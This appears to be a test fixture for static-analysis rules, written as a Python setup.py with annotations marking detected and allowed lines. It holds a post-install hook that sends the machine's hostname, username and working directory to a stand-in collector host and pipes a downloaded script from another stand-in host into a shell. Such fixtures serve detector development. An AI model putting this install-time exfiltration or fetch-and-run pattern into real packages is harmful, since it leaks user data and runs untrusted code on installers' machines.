# path: setup.py
import base64
import getpass
import os
import socket
import subprocess
import urllib.request

from setuptools import setup
from setuptools.command.install import install

here = os.path.abspath(os.path.dirname(__file__))
# ok: py-behaviour-decoded-exec
exec(open(os.path.join(here, "demo", "version.py")).read())
with open(os.path.join(here, "README.md"), encoding="utf-8") as fh:
    # ok: py-behaviour-identity-sent
    long_description = fh.read()
# ok: py-behaviour-command-fetch-run
subprocess.check_call(["git", "submodule", "update", "--init"])


def report():
    info = {"host": socket.gethostname(), "user": getpass.getuser(), "cwd": os.getcwd()}
    data = base64.b64encode(repr(info).encode())
    # ruleid: py-behaviour-identity-sent
    urllib.request.urlopen("https://collector.example/p?d=" + data.decode())


class PostInstall(install):
    def run(self):
        install.run(self)
        report()
        # ruleid: py-behaviour-command-fetch-run
        os.system("curl -s https://dl.example/x.sh | sh")


setup(name="demo", long_description=long_description, cmdclass={"install": PostInstall})
